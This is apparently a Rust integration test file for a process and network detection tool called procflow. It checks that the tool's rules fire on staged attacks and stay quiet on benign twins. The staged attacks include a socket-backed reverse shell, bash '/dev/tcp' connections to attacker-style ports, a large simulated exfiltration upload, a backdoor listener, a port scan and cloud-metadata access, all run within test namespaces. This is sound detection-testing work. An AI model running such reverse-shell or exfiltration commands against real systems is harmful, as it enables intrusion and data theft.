//! Live tests of the managed rules: real processes and loopback sockets, observed by
//! the real collector (`procflow collector --output stdout --once`), fed to the engine.
//! Each malicious workload has a benign twin that must raise nothing.

use std::collections::{HashMap, HashSet};
use std::io::{BufRead, BufReader};
use std::net::{TcpListener, TcpStream};
use std::os::fd::OwnedFd;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use procflow::model::{CollectorIdentity, Event, Record};
use procflow::rules::{Engine, RuleSet};

use crate::util::procflow_bin;

struct Kids(Vec<Child>);
impl Drop for Kids {
    fn drop(&mut self) {
        for c in &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

fn real_python() -> String {
    let out = Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .expect("python3");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// Runs the collector once and returns alerts (rule id -> count) for records of `pids`.
fn alerts_for(pids: &HashSet<u32>) -> (HashMap<String, usize>, usize) {
    let out = Command::new(procflow_bin())
        .args(["collector", "--output", "stdout", "--once"])
        .stderr(Stdio::null())
        .output()
        .expect("collector --once");
    let recs: Vec<Record> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    alerts_in(recs, pids)
}

/// Alerts (rule id -> count) the managed rules raise on the records of `pids`.
fn alerts_in(mut recs: Vec<Record>, pids: &HashSet<u32>) -> (HashMap<String, usize>, usize) {
    // processes first so flows and listeners find their owner
    recs.sort_by_key(|r| !matches!(r, Record::Process(_)));
    let mut engine = Engine::new(RuleSet::managed().expect("managed"));
    let mut fired = HashMap::new();
    let mut seen = 0;
    for record in recs {
        let pid = match &record {
            Record::Process(p) => Some(p.pid),
            Record::Flow(f) => f.pid,
            Record::Listener(l) => l.pid,
            _ => None,
        };
        let mine = pid.is_some_and(|p| pids.contains(&p));
        seen += usize::from(mine);
        let ev = Event {
            source: Default::default(),
            received_at: 0,
            record,
        };
        for a in engine.evaluate(&ev, 1) {
            if mine {
                eprintln!("alert {}: {}", a.rule_id, a.output);
                *fired.entry(a.rule_id).or_insert(0) += 1;
            }
        }
    }
    (fired, seen)
}

fn settle() {
    std::thread::sleep(Duration::from_millis(700));
}

#[test]
fn managed_rules_fire_on_real_attacks() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut kids = Kids(Vec::new());
    // reverse shell: a shell whose stdin/stdout is a TCP socket to a loopback listener
    let rs_listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let stream = TcpStream::connect(rs_listener.local_addr().expect("addr")).expect("connect");
    let (_peer, _) = rs_listener.accept().expect("accept");
    let fd_in: OwnedFd = stream.try_clone().expect("clone").into();
    let fd_out: OwnedFd = stream.into();
    kids.0.push(
        Command::new("sh")
            .args(["-c", "sleep 30; true"])
            .stdin(Stdio::from(fd_in))
            .stdout(Stdio::from(fd_out))
            .spawn()
            .expect("sh"),
    );
    // execution from /tmp, and a user process named like a kernel thread, and apt-get
    for name in ["sleep", "kworker", "apt-get"] {
        let p = dir.path().join(name);
        crate::util::copy_executable("/usr/bin/sleep", &p);
        kids.0
            .push(Command::new(&p).arg("30").spawn().expect("tmp exec"));
    }
    // an "sshd" listening on 2222 and an "nc" bind listener (symlinks to python: comm follows the name)
    let py = real_python();
    for (name, port) in [("sshd", 2222u16), ("nc", 0)] {
        let p = dir.path().join(name);
        std::os::unix::fs::symlink(&py, &p).expect("symlink");
        let code = format!(
            "import socket,time\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\ns.bind(('127.0.0.1',{port}))\ns.listen()\ntime.sleep(30)"
        );
        kids.0.push(
            Command::new(&p)
                .args(["-c", &code])
                .spawn()
                .expect("listener"),
        );
    }
    // a bash client to a stratum port on loopback
    let stratum = TcpListener::bind("127.0.0.1:3333").ok();
    if stratum.is_some() {
        kids.0.push(
            Command::new("bash")
                .args(["-c", "exec 3<>/dev/tcp/127.0.0.1/3333; sleep 30; true"])
                .spawn()
                .expect("bash"),
        );
    }
    // an interactive shell with a controlling terminal
    kids.0.push(
        Command::new("script")
            .args(["-qc", "sh -c 'sleep 30; true'", "/dev/null"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .spawn()
            .expect("script"),
    );
    settle();
    let mut pids: HashSet<u32> = kids.0.iter().map(|c| c.id()).collect();
    // children of `script` (the shell under the pty)
    for c in &kids.0 {
        if let Ok(s) = std::fs::read_to_string(format!("/proc/{}/task/{}/children", c.id(), c.id()))
        {
            for p in s.split_whitespace().filter_map(|p| p.parse::<u32>().ok()) {
                pids.insert(p);
                if let Ok(s2) = std::fs::read_to_string(format!("/proc/{p}/task/{p}/children")) {
                    pids.extend(s2.split_whitespace().filter_map(|p| p.parse::<u32>().ok()));
                }
            }
        }
    }
    let (fired, _) = alerts_for(&pids);
    // PF-EXEC-TMP judges executions it witnessed, not a snapshot: see the test below.
    let mut expected = vec![
        "PF-REVERSE-SHELL-STDIO",
        "PF-KTHREAD-NAME",
        "PF-PACKAGE-MANAGER",
        "PF-SSHD",
        "PF-SSHD-LISTENER",
        "PF-BIND-SHELL",
        "PF-NETWORK-TOOL",
        "PF-SHELL-TTY",
    ];
    if stratum.is_some() {
        expected.push("PF-STRATUM-PORT");
    }
    let missing: Vec<_> = expected
        .iter()
        .filter(|r| !fired.contains_key(**r))
        .collect();
    assert!(missing.is_empty(), "missing {missing:?}, fired {fired:?}");
}

#[test]
fn exec_from_scratch_fires_on_an_execution_the_collector_saw_not_on_one_running_before() {
    // The rule watches /tmp, whatever TMPDIR says.
    let dir = tempfile::tempdir_in("/tmp").expect("tempdir");
    let payload = dir.path().join("payload");
    crate::util::copy_executable("/usr/bin/sleep", &payload);
    let mut kids = Kids(Vec::new());
    kids.0
        .push(Command::new(&payload).arg("30").spawn().expect("before"));
    let before = kids.0[0].id();
    // Start times count in 10 ms clock ticks; one started in the collector's own tick is new.
    std::thread::sleep(Duration::from_millis(50));
    let mut collector = Command::new(procflow_bin())
        .args(["collector", "--output", "stdout", "--duration", "3s"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("collector");
    let mut lines = BufReader::new(collector.stdout.take().expect("stdout")).lines();
    // The first record comes from the start-up sweep: the collector is running.
    let mut recs: Vec<Record> = Vec::new();
    let first = lines.next().expect("a record").expect("read");
    recs.extend(serde_json::from_str(&first).ok());
    kids.0
        .push(Command::new(&payload).arg("30").spawn().expect("after"));
    let after = kids.0[1].id();
    recs.extend(
        lines
            .map_while(Result::ok)
            .filter_map(|l| serde_json::from_str(&l).ok()),
    );
    let _ = collector.wait();
    let preexisting: HashMap<u32, bool> = recs
        .iter()
        .filter_map(|r| match r {
            Record::Process(p) if p.pid == before || p.pid == after => Some((p.pid, p.preexisting)),
            _ => None,
        })
        .collect();
    assert_eq!(preexisting.get(&before), Some(&true), "{preexisting:?}");
    assert_eq!(preexisting.get(&after), Some(&false), "{preexisting:?}");
    let (fired_after, _) = alerts_in(recs.clone(), &HashSet::from([after]));
    assert_eq!(fired_after.get("PF-EXEC-TMP"), Some(&1), "{fired_after:?}");
    let (fired_before, seen) = alerts_in(recs, &HashSet::from([before]));
    assert!(seen > 0);
    assert!(
        !fired_before.contains_key("PF-EXEC-TMP"),
        "a process running before the collector: {fired_before:?}"
    );
}

#[test]
fn managed_rules_stay_quiet_on_benign_workloads() {
    let mut kids = Kids(Vec::new());
    // a web server serving a health-check loop, a cron-like job, a database-like client
    let code = "import http.server,threading,time,urllib.request\nsrv=http.server.HTTPServer(('127.0.0.1',0),http.server.SimpleHTTPRequestHandler)\nthreading.Thread(target=srv.serve_forever,daemon=True).start()\nu='http://127.0.0.1:%d/'%srv.server_address[1]\nfor _ in range(300):\n    urllib.request.urlopen(u).read(); time.sleep(0.1)";
    kids.0.push(
        Command::new("python3")
            .args(["-c", code])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("web"),
    );
    kids.0.push(
        Command::new("sh")
            .args([
                "-c",
                "for i in $(seq 1 300); do date >/dev/null; sleep 0.1; done",
            ])
            .spawn()
            .expect("cron"),
    );
    let db = TcpListener::bind("127.0.0.1:0").expect("db");
    let port = db.local_addr().expect("addr").port();
    let client = format!(
        "import socket,time\nc=socket.create_connection(('127.0.0.1',{port}))\ntime.sleep(30)"
    );
    kids.0.push(
        Command::new("python3")
            .args(["-c", &client])
            .spawn()
            .expect("client"),
    );
    // The client is connected (python can take over a second to start on a loaded machine).
    db.set_nonblocking(true).expect("nonblocking");
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    let _accepted = loop {
        match db.accept() {
            Ok((conn, _)) => break conn,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                assert!(
                    std::time::Instant::now() < deadline,
                    "the client never connected"
                );
                std::thread::sleep(Duration::from_millis(20));
            }
            Err(e) => panic!("accept: {e}"),
        }
    };
    settle();
    let pids: HashSet<u32> = kids.0.iter().map(|c| c.id()).collect();
    let (fired, seen) = alerts_for(&pids);
    assert!(
        seen >= 4,
        "the collector saw only {seen} records of the benign workloads"
    );
    assert!(fired.is_empty(), "benign workloads raised {fired:?}");
}

/// One collector snapshot inside network namespace `ns`.
fn snapshot_in(ns: &str) -> Vec<Record> {
    let out = Command::new("ip")
        .args(["netns", "exec", ns, procflow_bin()])
        .args(["collector", "--output", "stdout", "--once"])
        .stderr(Stdio::null())
        .output()
        .expect("collector --once");
    assert!(out.status.success(), "collector --once failed");
    let mut recs: Vec<Record> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    recs.sort_by_key(|r| !matches!(r, Record::Process(_)));
    recs
}

/// Feeds a snapshot to the engine as the pod `web-7c9f8d6b5-x2k4q` at time `now`; returns
/// (rule id, owning pid) of every alert.
fn evaluate_as_pod(
    engine: &mut Engine,
    records: Vec<Record>,
    now: u64,
) -> Vec<(String, Option<u32>)> {
    let source = std::sync::Arc::new(CollectorIdentity {
        collector_id: "sandbox".into(),
        pod_name: "web-7c9f8d6b5-x2k4q".into(),
        pod_namespace: "shop".into(),
        ..CollectorIdentity::default()
    });
    let mut fired = Vec::new();
    for record in records {
        let ev = Event {
            source: source.clone(),
            received_at: now,
            record,
        };
        for a in engine.evaluate(&ev, now) {
            fired.push((a.rule_id, a.process.map(|p| p.pid)));
        }
    }
    fired
}

fn python_in(ns: &str, code: &str) -> Child {
    Command::new("ip")
        .args(["netns", "exec", ns, "/usr/bin/python3", "-c", code])
        .stdout(Stdio::null())
        .spawn()
        .expect("python in netns")
}

/// A client in the pod: connects to `addr:port`, sends `bytes`, then holds the connection.
fn uploader(bytes: usize, addr: &str, port: u16) -> String {
    format!(
        "import socket,time\nc=socket.create_connection(('{addr}',{port}))\nb=b'x'*65536\nn={bytes}\nwhile n>0:\n    c.sendall(b[:min(n,65536)]); n-=min(n,65536)\ntime.sleep(30)"
    )
}

const LISTEN_PY: &str = "import socket,sys,time\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\ns.bind(('0.0.0.0',int(sys.argv[1])))\ns.listen()\ntime.sleep(30)";

/// The stateful managed rules with real sockets in a pod-like network namespace and an
/// "internet" peer: after the learning period (the engine's clock is moved on by two
/// hours; the records are real), a large upload to a new address, a new listener and a
/// connect scan fire; the app's known destination and known listener stay quiet.
#[test]
fn stateful_managed_rules_fire_after_learning_and_not_on_benign_twins() {
    let ns = crate::util::Netns::new("r", &["pod", "inet"]);
    ns.link(0, "203.0.113.1/24", 1, "203.0.113.2/24", "r");
    // .3 takes the exfiltration, .4 the scan; the benign uploader talks to .2 only.
    ns.add_addrs(1, "r", &["203.0.113.3/24", "203.0.113.4/24"]);
    let mut kids = Kids(Vec::new());
    // The internet: a sink on 443 (every address) and 25 open ports on .4 for the scan.
    let sink = "import socket,threading\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\ns.bind(('0.0.0.0',443))\ns.listen(64)\ndef drain(c):\n    while c.recv(1<<20): pass\nwhile True:\n    c,_=s.accept(); threading.Thread(target=drain,args=(c,),daemon=True).start()";
    kids.0.push(python_in(ns.name(1), sink));
    let ports = "import socket,time\nl=[]\nfor p in range(10001,10026):\n    s=socket.socket(); s.bind(('203.0.113.4',p)); s.listen(); l.append(s)\ntime.sleep(30)";
    kids.0.push(python_in(ns.name(1), ports));
    std::thread::sleep(Duration::from_millis(500));

    let mut engine = Engine::new(RuleSet::managed().expect("managed"));
    let t0 = 1_000_000_000_000u64;
    let hour = 3_600_000_000_000u64;
    // Learning: the app uploads 1 MB to its usual destination and listens on 8080.
    let mut learning = Kids(vec![
        python_in(ns.name(0), &uploader(1 << 20, "203.0.113.2", 443)),
        Command::new("ip")
            .args([
                "netns",
                "exec",
                ns.name(0),
                "/usr/bin/python3",
                "-c",
                LISTEN_PY,
                "8080",
            ])
            .spawn()
            .expect("listener"),
    ]);
    std::thread::sleep(Duration::from_millis(800));
    let during = evaluate_as_pod(&mut engine, snapshot_in(ns.name(0)), t0);
    assert!(
        during
            .iter()
            .all(|(r, _)| !r.starts_with("PF-NEW") && r != "PF-EXFIL-VOLUME"),
        "nothing stateful fires while learning: {during:?}"
    );
    for c in &mut learning.0 {
        let _ = c.kill();
        let _ = c.wait();
    }

    // Two hours later: benign twins (same destination, same listener) and the attacks.
    let benign = Kids(vec![
        python_in(ns.name(0), &uploader(1 << 20, "203.0.113.2", 443)),
        Command::new("ip")
            .args([
                "netns",
                "exec",
                ns.name(0),
                "/usr/bin/python3",
                "-c",
                LISTEN_PY,
                "8080",
            ])
            .spawn()
            .expect("listener"),
    ]);
    let scan = "import socket,time\nl=[socket.create_connection(('203.0.113.4',p)) for p in range(10001,10026)]\ntime.sleep(30)";
    let attacks = Kids(vec![
        python_in(ns.name(0), &uploader(110 << 20, "203.0.113.3", 443)),
        Command::new("ip")
            .args([
                "netns",
                "exec",
                ns.name(0),
                "/usr/bin/python3",
                "-c",
                LISTEN_PY,
                "31337",
            ])
            .spawn()
            .expect("backdoor"),
        python_in(ns.name(0), scan),
    ]);
    // The 110 MB upload over the veth takes a moment.
    std::thread::sleep(Duration::from_millis(2500));
    let after = evaluate_as_pod(&mut engine, snapshot_in(ns.name(0)), t0 + 2 * hour);
    let benign_pids: HashSet<u32> = benign.0.iter().map(|c| c.id()).collect();
    let attack_pids: Vec<u32> = attacks.0.iter().map(|c| c.id()).collect();
    let fired_by = |rule: &str, pid: u32| after.iter().any(|(r, p)| r == rule && *p == Some(pid));
    assert!(fired_by("PF-EXFIL-VOLUME", attack_pids[0]), "{after:?}");
    assert!(
        fired_by("PF-NEW-OUTBOUND-DEST", attack_pids[0]),
        "{after:?}"
    );
    assert!(fired_by("PF-NEW-LISTENER", attack_pids[1]), "{after:?}");
    assert!(fired_by("PF-PORT-SCAN", attack_pids[2]), "{after:?}");
    let noisy: Vec<_> = after
        .iter()
        .filter(|(_, p)| p.is_some_and(|p| benign_pids.contains(&p)))
        .collect();
    assert!(noisy.is_empty(), "benign twins raised {noisy:?}");
    drop(kids);
}

/// The network rules that need a world beyond loopback: a pod namespace whose peers play the
/// cloud metadata endpoint, the Kubernetes API service, an SSH server on a non-standard
/// port and an internet host; each attack has a benign twin beside it.
#[test]
fn managed_network_rules_fire_on_real_connections_in_a_pod_namespace() {
    let ns = crate::util::Netns::new("n", &["pod", "world"]);
    ns.link(0, "10.77.0.2/16", 1, "10.77.0.1/16", "n");
    ns.add_addrs(
        1,
        "n",
        &["169.254.169.254/32", "10.96.0.1/32", "203.0.113.2/32"],
    );
    crate::util::sh(&[
        "ip",
        "-n",
        ns.name(0),
        "route",
        "add",
        "default",
        "dev",
        &crate::util::veth('a', "n"),
    ]);
    let mut kids = Kids(Vec::new());
    let listen_all = "import socket,time\nl=[]\nfor p in (80,443,22,2222,4444,8443):\n    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.bind(('0.0.0.0',p)); s.listen(); l.append(s)\ntime.sleep(30)";
    kids.0.push(python_in(ns.name(1), listen_all));
    std::thread::sleep(Duration::from_millis(500));

    let dir = tempfile::tempdir().expect("tempdir");
    let ssh = dir.path().join("ssh");
    std::os::unix::fs::symlink("/usr/bin/python3", &ssh).expect("symlink");
    let hold = |addr: &str, port: u16| {
        format!("import socket,time\nc=socket.create_connection(('{addr}',{port}))\ntime.sleep(30)")
    };
    let in_pod = |program: &std::path::Path, code: &str| {
        Command::new("ip")
            .args(["netns", "exec", ns.name(0)])
            .arg(program)
            .args(["-c", code])
            .stdout(Stdio::null())
            .spawn()
            .expect("pod process")
    };
    let python = std::path::Path::new("/usr/bin/python3");
    let attacks = Kids(vec![
        in_pod(python, &hold("169.254.169.254", 80)),
        in_pod(python, &hold("10.96.0.1", 443)),
        in_pod(&ssh, &hold("203.0.113.2", 2222)),
        Command::new("ip")
            .args([
                "netns",
                "exec",
                ns.name(0),
                "bash",
                "-c",
                "exec 3<>/dev/tcp/203.0.113.2/4444; sleep 30; true",
            ])
            .spawn()
            .expect("bash /dev/tcp"),
    ]);
    let benign = Kids(vec![
        in_pod(python, &hold("203.0.113.2", 443)),
        in_pod(&ssh, &hold("203.0.113.2", 22)),
        in_pod(python, &hold("10.96.0.1", 8443)),
    ]);
    std::thread::sleep(Duration::from_millis(1500));
    let mut engine = Engine::new(RuleSet::managed().expect("managed"));
    let records = snapshot_in(ns.name(0));
    let to_4444: Vec<String> = records
        .iter()
        .filter(|r| matches!(r, Record::Flow(f) if f.remote_port == Some(4444)))
        .map(|r| format!("{r:?}"))
        .collect();
    let fired = evaluate_as_pod(&mut engine, records, 1);
    let attack: Vec<u32> = attacks.0.iter().map(|c| c.id()).collect();
    let by = |rule: &str, pid: u32| fired.iter().any(|(r, p)| r == rule && *p == Some(pid));
    assert!(by("PF-METADATA-ENDPOINT", attack[0]), "{fired:?}");
    assert!(by("PF-K8S-API", attack[1]), "{fired:?}");
    assert!(by("PF-SSH-NONSTANDARD-PORT", attack[2]), "{fired:?}");
    assert!(
        by("PF-SHELL-OUTBOUND", attack[3]),
        "bash pid {}: {fired:?}; its flow: {to_4444:?}",
        attack[3]
    );
    let benign_pids: HashSet<u32> = benign.0.iter().map(|c| c.id()).collect();
    let noisy: Vec<_> = fired
        .iter()
        .filter(|(_, p)| p.is_some_and(|p| benign_pids.contains(&p)))
        .collect();
    assert!(noisy.is_empty(), "benign twins raised {noisy:?}");
    drop(kids);
}

/// `kubectl exec` enters the container's namespaces from outside: the shell's parent is not
/// in the container's pid namespace, so its lineage does not reach the container's init.
/// A container with its own pid namespace (init = pid 1), a shell entered with `nsenter`
/// under a terminal, and a benign twin started by the container's own init.
#[test]
fn exec_into_container_is_seen_from_inside_the_pid_namespace() {
    let mut container = Command::new("unshare")
        .args([
            "--pid",
            "--fork",
            "--mount-proc",
            "sh",
            "-c",
            "sleep 30 & sh -c 'sleep 31' & wait",
        ])
        .spawn()
        .expect("container");
    std::thread::sleep(Duration::from_millis(500));
    // The container's init: the child of `unshare` (pid 1 inside).
    let init: u32 = std::fs::read_to_string(format!("/proc/{0}/task/{0}/children", container.id()))
        .expect("children")
        .split_whitespace()
        .next()
        .and_then(|p| p.parse().ok())
        .expect("init pid");
    let target = init.to_string();
    let mut exec = Command::new("script")
        .args([
            "-qc",
            &format!("nsenter --target {target} --pid --mount sh -c 'sleep 29; true'"),
            "/dev/null",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()
        .expect("exec into container");
    std::thread::sleep(Duration::from_millis(800));
    let out = Command::new("nsenter")
        .args(["--target", &target, "--pid", "--mount", procflow_bin()])
        .args(["collector", "--output", "stdout", "--once"])
        .stderr(Stdio::null())
        .output()
        .expect("collector inside the container");
    let records: Vec<Record> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let mut engine = Engine::new(RuleSet::managed().expect("managed"));
    let fired = evaluate_as_pod(&mut engine, records.clone(), 1);
    let exec_alerts: Vec<u32> = fired
        .iter()
        .filter(|(r, _)| r == "PF-EXEC-INTO-CONTAINER")
        .filter_map(|(_, p)| *p)
        .collect();
    // Inside the namespace: the entered shell (parent outside, so ppid 0) fired; the
    // container's own processes (descendants of pid 1) did not.
    let entered: Vec<u32> = records
        .iter()
        .filter_map(|r| match r {
            Record::Process(p) if p.ppid == 0 && p.pid != 1 && p.comm == b"sh" => Some(p.pid),
            _ => None,
        })
        .collect();
    assert!(!entered.is_empty(), "the entered shell is visible inside");
    assert!(entered.iter().all(|p| exec_alerts.contains(p)), "{fired:?}");
    let own: Vec<u32> = records
        .iter()
        .filter_map(|r| match r {
            Record::Process(p) if p.ancestors.last().is_some_and(|a| a.pid == 1) => Some(p.pid),
            _ => None,
        })
        .collect();
    assert!(!own.is_empty(), "the container's own processes are visible");
    assert!(own.iter().all(|p| !exec_alerts.contains(p)), "{fired:?}");
    for c in [&mut exec, &mut container] {
        let _ = c.kill();
        let _ = c.wait();
    }
}
